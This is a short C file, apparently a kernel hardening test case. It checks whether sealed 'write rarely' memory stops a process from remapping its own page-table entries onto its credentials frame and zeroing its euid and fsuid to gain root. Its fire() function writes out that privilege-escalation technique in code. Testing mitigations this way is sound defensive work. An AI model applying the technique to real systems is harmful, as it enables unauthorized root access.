// SPDX-License-Identifier: GPL-2.0-only
#include "untouched_pages.h"

ATTACK("write_rarely", "entry_to_credentials",
       "write_rarely: write to sealed memory outside a window",
       "The program points its own page-table entry to the frame of its credentials, "
       "writable.",
       "Page tables are sealed memory: a store outside a write window faults.",
       "The program writes its user id from user mode, past every key and window.");

static bool control(void)
{
	return is_ordinary();
}

static bool fire(void)
{
	const uint64_t task = own_task(), credentials = own_credentials(task);
	const uint64_t physical = credentials - sealed_view();
	char *const pages = untouched_pages(2), *const mine = pages + (physical & 4095);

	/* They may cross the end of a page. */
	for (unsigned long i = 0; i < 2; i++)
		poke(table_entry(own_root(task), (uint64_t)pages + i * 4096, 1),
		     ((physical & ENTRY_ADDRESS) + i * 4096) | 0x8000000000000067ul);
	*(volatile uint32_t *)(mine + member("credentials.euid")) = 0;
	*(volatile uint32_t *)(mine + member("credentials.fsuid")) = 0;
	return is_root();
}

static void victim(void)
{
	victim_waits();
}
